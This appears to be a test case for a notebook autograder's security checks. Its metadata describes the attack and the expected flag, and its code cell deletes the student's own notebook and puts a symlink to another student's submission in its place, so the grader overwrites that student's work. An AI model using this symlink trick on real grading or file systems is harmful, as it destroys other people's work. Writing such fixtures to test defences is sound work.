# attack: Replaces its own marked notebook by a link, so that the grader writes over another student's work.
# gain: neighbour
# expect: q01=3 q02=3 q03=3
# flag: files-outside

# %% after q03
import os

if os.path.exists("hostile.ipynb"):
    os.remove("hostile.ipynb")
os.symlink("{COURSE}/submitted/other-student/hostile/hostile.ipynb", "hostile.ipynb")
